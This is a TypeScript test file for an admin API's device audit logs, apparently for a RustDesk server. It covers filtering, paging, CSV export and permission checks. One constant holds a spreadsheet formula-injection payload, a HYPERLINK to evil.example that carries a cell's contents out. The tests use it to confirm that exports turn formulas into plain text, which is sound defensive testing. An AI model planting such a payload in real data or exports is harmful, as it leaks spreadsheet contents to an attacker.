import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { EXPORT_CHUNK } from '../../../src/services/device-audit.js';
import { newTimeOrderedId } from '../../../src/services/secrets.js';
import { buildTestApp, type TestApp } from '../../support/app.js';
import { testEngines } from '../../support/databases.js';
import { PASSWORD, createApiToken, createUser, signInConsole } from '../../support/fixtures.js';
import { assertJsonError, malformedCases } from '../../support/malformed.js';
import { dart, loginBody, rust } from '../../support/rustdesk-client.js';

/** A controlling device named to run a formula in whatever spreadsheet opens the export. */
const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"open me")';

/** Reads a CSV answer (RFC 4180), which starts with the UTF-8 byte order mark, back into rows of cells. */
function parseCsv(answer: string): string[][] {
  assert.ok(answer.startsWith('\uFEFF'), 'starts with the byte order mark, so that spreadsheets read UTF-8');
  const text = answer.slice(1);
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  assert.equal(cell + row.join(''), '', 'the last record ends with CRLF');
  return rows;
}

for (const engine of await testEngines()) {
  describe(`admin API: device audit logs (${engine})`, () => {
    let t: TestApp;
    let auditor: Record<string, string>;
    const kiosk = { id: '600000001', uuid: 'a2lvc2s=' };
    const lab = { id: '600000002', uuid: 'bGFi' };
    /** When the lab's connection opened, and when the lab's alarm came. */
    let labOpened = 0;
    let labAlarm = 0;

    before(async () => {
      t = await buildTestApp(engine);
      await createUser(t, { name: 'alice' });
      auditor = (await createApiToken(t, ['audit:read'])).headers;
      for (const device of [kiosk, lab]) assert.equal((await t.app.inject(rust('/api/sysinfo', { ...device, hostname: device.id }))).body, 'SYSINFO_UPDATED');
      // What the devices report, in order, a minute apart.
      const posts: [string, Record<string, unknown>][] = [
        ['/api/audit/conn', { ...kiosk, conn_id: 1, session_id: 0, action: 'new', ip: '198.51.100.1' }],
        ['/api/audit/conn', { ...kiosk, conn_id: 1, session_id: 42, peer: ['123456789', 'alice-laptop'], type: 1 }],
        ['/api/audit/conn', { ...lab, conn_id: 7, session_id: 0, action: 'new', ip: '198.51.100.2' }],
        ['/api/audit/file', { ...kiosk, conn_id: 1, peer_id: '123456789', type: 1, path: 'Documents/a.txt', is_file: true, info: '{"name":"alice-laptop","num":1,"files":[["a.txt",3]]}' }],
        ['/api/audit/alarm', { ...kiosk, typ: 2, info: '{"ip":"203.0.113.5","id":"1","name":"x"}' }],
        ['/api/audit/conn', { ...kiosk, conn_id: 2, session_id: 0, action: 'new', ip: '198.51.100.3' }],
        ['/api/audit/conn', { ...kiosk, conn_id: 2, session_id: 43, peer: ['987654321', HOSTILE], type: 0 }],
        ['/api/audit/conn', { ...kiosk, conn_id: 2, session_id: 43, action: 'close' }],
        ['/api/audit/file', { ...lab, conn_id: 7, peer_id: '987654321', type: 0, path: '-report.csv', is_file: true, info: JSON.stringify({ name: HOSTILE, num: 2 }) }],
        ['/api/audit/alarm', { ...lab, typ: 0, info: '{"ip":"203.0.113.6"}' }],
      ];
      for (const [index, [url, body]] of posts.entries()) {
        t.clock.advance(60_000);
        if (index === 2) labOpened = t.clock.now();
        if (index === 9) labAlarm = t.clock.now();
        assert.equal((await t.app.inject(rust(url, body))).statusCode, 200);
      }
      t.clock.advance(60_000);
      // A failed sign-in: a login alarm.
      assert.equal((await t.app.inject(dart('POST', '/api/login', loginBody('alice', `${PASSWORD}-wrong`)))).statusCode, 401);
    });
    after(() => t.close());

    const get = (url: string, headers = auditor) => t.app.inject({ method: 'GET', url, headers });
    const ids = async (url: string) => {
      const response = await get(url);
      assert.equal(response.statusCode, 200, `${url}: ${response.body}`);
      const page = response.json() as { total: number; data: { device_id: string; peer_id?: string; source?: string }[] };
      assert.equal(page.total, page.data.length);
      return page.data.map((r) => (r.source === 'sign_in' ? 'sign_in' : `${r.device_id}:${r.peer_id ?? ''}`));
    };

    it('lists connections newest first, each from new to its latest state, and filters by device', async () => {
      const all = await get('/api/admin/audit/connections');
      assert.equal(all.statusCode, 200, all.body);
      const page = all.json() as { total: number; data: { device_id: string; action: string; peer_name: string; type: number; session_id: string; ip: string; closed_at: number; created_at: number }[] };
      assert.equal(page.total, 3);
      assert.deepEqual(
        page.data.map((c) => [c.device_id, c.action, c.peer_name, c.type, c.session_id, c.ip]),
        [
          [kiosk.id, 'close', HOSTILE, 0, '43', '198.51.100.3'],
          [lab.id, 'new', '', -1, '', '198.51.100.2'],
          [kiosk.id, 'authorized', 'alice-laptop', 1, '42', '198.51.100.1'],
        ],
      );
      assert.equal(page.data[0]!.closed_at - page.data[0]!.created_at, 120_000);
      const one = (await get(`/api/admin/audit/connections?device_id=${kiosk.id}`)).json() as { total: number };
      assert.equal(one.total, 2);
      const paged = (await get('/api/admin/audit/connections?current=3&pageSize=1')).json() as { total: number; data: { device_id: string }[] };
      assert.deepEqual([paged.total, paged.data.map((c) => c.device_id)], [3, [kiosk.id]]);
    });

    it('filters connections by controller id or name (any case), state, type and time', async () => {
      const k1 = `${kiosk.id}:123456789`;
      const k2 = `${kiosk.id}:987654321`;
      const l7 = `${lab.id}:`;
      assert.deepEqual(await ids('/api/admin/audit/connections?peer=123456789'), [k1]);
      assert.deepEqual(await ids('/api/admin/audit/connections?peer=ALICE-Laptop'), [k1]);
      assert.deepEqual(await ids(`/api/admin/audit/connections?peer=${encodeURIComponent(HOSTILE)}`), [k2]);
      assert.deepEqual(await ids('/api/admin/audit/connections?peer=alice'), [], 'a name matches whole, not in part');
      assert.deepEqual(await ids('/api/admin/audit/connections?state=open'), [l7, k1]);
      assert.deepEqual(await ids('/api/admin/audit/connections?state=closed'), [k2]);
      assert.deepEqual(await ids('/api/admin/audit/connections?type=1'), [k1]);
      assert.deepEqual(await ids('/api/admin/audit/connections?type=0&state=closed'), [k2]);
      assert.deepEqual(await ids(`/api/admin/audit/connections?from=${labOpened}`), [k2, l7]);
      assert.deepEqual(await ids(`/api/admin/audit/connections?to=${labOpened}`), [k1]);
      assert.deepEqual(await ids(`/api/admin/audit/connections?from=${labOpened}&to=${labOpened + 1}&state=open&device_id=${lab.id}`), [l7]);
      assert.deepEqual(await ids(`/api/admin/audit/connections?device_id=${kiosk.id}&state=open`), [k1]);
    });

    it('lists file transfers with what was sent, filtered by device, controller, direction and time', async () => {
      const files = (await get('/api/admin/audit/files')).json() as { total: number; data: { peer_name: string; info: Record<string, unknown> }[] };
      assert.equal(files.total, 2);
      assert.deepEqual([files.data[1]?.peer_name, files.data[1]?.info.path, files.data[1]?.info.files], ['alice-laptop', 'Documents/a.txt', [['a.txt', 3]]]);
      assert.deepEqual(await ids(`/api/admin/audit/files?device_id=${kiosk.id}`), [`${kiosk.id}:123456789`]);
      assert.deepEqual(await ids('/api/admin/audit/files?peer=987654321'), [`${lab.id}:987654321`]);
      assert.deepEqual(await ids('/api/admin/audit/files?type=0'), [`${lab.id}:987654321`]);
      assert.deepEqual(await ids('/api/admin/audit/files?type=1'), [`${kiosk.id}:123456789`]);
      assert.deepEqual(await ids(`/api/admin/audit/files?to=${labOpened}`), []);
    });

    it('lists device alarms and failed sign-ins together, newest first, filtered by source, device, type and time', async () => {
      const alarms = (await get('/api/admin/audit/alarms')).json() as { total: number; data: { source: string; type: number; action: string; device_id: string; info: Record<string, unknown> }[] };
      assert.equal(alarms.total, 3);
      assert.deepEqual(
        alarms.data.map((a) => [a.source, a.type, a.action, a.device_id, a.info.name]),
        [
          ['sign_in', -1, 'bad_credentials', '', 'alice'],
          ['device', 0, '', lab.id, undefined],
          ['device', 2, '', kiosk.id, 'x'],
        ],
      );
      assert.deepEqual(await ids('/api/admin/audit/alarms?source=sign_in'), ['sign_in']);
      assert.deepEqual(await ids('/api/admin/audit/alarms?source=device'), [`${lab.id}:`, `${kiosk.id}:`]);
      assert.deepEqual(await ids(`/api/admin/audit/alarms?device_id=${lab.id}`), [`${lab.id}:`]);
      assert.deepEqual(await ids('/api/admin/audit/alarms?type=2'), [`${kiosk.id}:`]);
      assert.deepEqual(await ids(`/api/admin/audit/alarms?from=${labAlarm}`), ['sign_in', `${lab.id}:`]);
      assert.deepEqual(await ids(`/api/admin/audit/alarms?from=${labAlarm + 1}&source=device`), []);
      assert.deepEqual(await ids(`/api/admin/audit/alarms?to=${labAlarm}`), [`${kiosk.id}:`]);
      assert.deepEqual(await ids(`/api/admin/audit/alarms?source=sign_in&device_id=${lab.id}`), [], 'sign-ins have no device');
      const paged = (await get('/api/admin/audit/alarms?current=2&pageSize=2')).json() as { total: number; data: unknown[] };
      assert.deepEqual([paged.total, paged.data.length], [3, 1]);
    });

    it('exports connections as CSV with the filters, times in UTC, durations, and formulas made text', async () => {
      const response = await get(`/api/admin/audit/connections.csv?device_id=${kiosk.id}`);
      assert.equal(response.statusCode, 200, response.body);
      assert.equal(response.headers['content-type'], 'text/csv; charset=utf-8');
      assert.match(String(response.headers['content-disposition']), /^attachment; filename="connections-\d{8}T\d{6}Z\.csv"$/);
      const rows = parseCsv(response.body);
      assert.deepEqual(rows[0], ['id', 'time', 'device_id', 'peer_id', 'peer_name', 'type', 'state', 'authorized_at', 'closed_at', 'duration_seconds', 'ip', 'session_id', 'note']);
      assert.equal(rows.length, 3);
      const [closed, open] = [rows[1]!, rows[2]!];
      assert.deepEqual(closed.slice(2, 7), [kiosk.id, '987654321', `'${HOSTILE}`, 'remote_desktop', 'closed']);
      assert.match(closed[1]!, /^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z$/);
      assert.equal(closed[9], '120');
      assert.deepEqual(open.slice(3, 7).concat(open[8]!, open[9]!), ['123456789', 'alice-laptop', 'file_transfer', 'open', '', '']);
      // The hostile name is one quoted cell starting with a quote mark, on the wire too.
      assert.ok(response.body.includes(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""open me"")"`));
      const openOnly = parseCsv((await get('/api/admin/audit/connections.csv?state=open')).body);
      assert.deepEqual(openOnly.slice(1).map((r) => r[2]), [lab.id, kiosk.id]);
    });

    it('exports file transfers and alarms as CSV with their filters', async () => {
      const files = parseCsv((await get('/api/admin/audit/files.csv?type=0')).body);
      assert.deepEqual(files[0], ['id', 'time', 'device_id', 'peer_id', 'peer_name', 'direction', 'path', 'is_file', 'files', 'ip']);
      assert.deepEqual(files.slice(1).map((r) => r.slice(2, 9)), [[lab.id, '987654321', `'${HOSTILE}`, 'sent', "'-report.csv", 'true', '2']]);
      const alarms = await get('/api/admin/audit/alarms.csv?source=sign_in');
      assert.match(String(alarms.headers['content-disposition']), /filename="alarms-/);
      const rows = parseCsv(alarms.body);
      assert.deepEqual(rows[0], ['id', 'time', 'source', 'device_id', 'type', 'action', 'ip', 'name', 'info']);
      assert.deepEqual(rows.slice(1).map((r) => [r[2], r[5], r[7]]), [['sign_in', 'bad_credentials', 'alice']]);
      const none = parseCsv((await get('/api/admin/audit/alarms.csv?source=sign_in&type=2')).body);
      assert.equal(none.length, 1, 'only the header row');
    });

    it('exports every matching record, read in chunks, past one chunk', async () => {
      const bulk = { id: '600000099', uuid: 'YnVsaw==' };
      const count = EXPORT_CHUNK * 2 + 3;
      const start = t.clock.now();
      await t.store.transaction(async (tx) => {
        for (let i = 0; i < count; i++) {
          // Pairs share a time, so the order within one time (by id) is exercised too.
          const at = start + Math.floor(i / 2);
          await tx.deviceAudit.insert({
            id: newTimeOrderedId(at),
            created_at: at,
            kind: 'conn',
            device_id: bulk.id,
            device_uuid: bulk.uuid,
            conn_id: i,
            type: 0,
            action: 'close',
            ip: '192.0.2.1',
            info: {},
            session_id: String(i),
            peer_id: '111111111',
            peer_name: i === 0 ? HOSTILE : `peer ${i}`,
            note: '',
            authorized_at: at,
            closed_at: at + 1000,
          });
        }
      });
      const response = await get(`/api/admin/audit/connections.csv?device_id=${bulk.id}`);
      assert.equal(response.statusCode, 200);
      const rows = parseCsv(response.body).slice(1);
      assert.equal(rows.length, count);
      assert.equal(new Set(rows.map((r) => r[0])).size, count, 'each record once');
      const sessions = rows.map((r) => Number(r[11]));
      assert.deepEqual(sessions.toSorted((a, b) => a - b), Array.from({ length: count }, (_, i) => i));
      const times = rows.map((r) => Date.parse(r[1]!));
      assert.ok(times.every((time, i) => i === 0 || time <= times[i - 1]!), 'newest first');
      assert.equal(rows.find((r) => r[11] === '0')?.[4], `'${HOSTILE}`);
      // The page API still counts them all.
      assert.equal(((await get(`/api/admin/audit/connections?device_id=${bulk.id}&pageSize=1`)).json() as { total: number }).total, count);
    });

    it('needs audit:read, for pages and exports alike; a person who is not an administrator gets none', async () => {
      const devicesOnly = (await createApiToken(t, ['devices:read'])).headers;
      await createUser(t, { name: 'carol' });
      const carol = await signInConsole(t, 'carol');
      for (const url of ['connections', 'files', 'alarms', 'connections.csv', 'files.csv', 'alarms.csv'].map((log) => `/api/admin/audit/${log}`)) {
        assertJsonError(await get(url, devicesOnly), 403);
        assertJsonError(await get(url, carol.headers), 403);
        assertJsonError(await get(url, {}), 401);
      }
    });

    it('refuses malformed queries with a 4xx JSON error', async () => {
      const connection = { from: ['-1', 'x', '1.5e400'], device_id: ['', 'x'.repeat(101)], peer: ['', 'x'.repeat(257)], state: ['ope', 'OPEN', ''], type: ['x', '-2', '100'] };
      const file = { from: ['-1'], to: ['x'], device_id: [''], peer: ['x'.repeat(257)], type: ['2', '-1', 'sent'] };
      const alarm = { source: ['devices', ''], device_id: [''], type: ['-2', 'x'], from: ['x'] };
      for (const [path, badQuery] of [
        ['/api/admin/audit/connections', connection],
        ['/api/admin/audit/files', file],
        ['/api/admin/audit/alarms', alarm],
      ] as const) {
        for (const [url, paged] of [
          [path, true],
          [`${path}.csv`, false],
        ] as const) {
          for (const bad of malformedCases({ method: 'GET', path: url, paged, badQuery })) {
            const response = await t.app.inject({ ...bad.request, headers: { ...auditor, ...(bad.request.headers as Record<string, string>) } });
            assertJsonError(response, bad.status, { router: bad.router ?? false });
          }
        }
      }
    });
  });
}
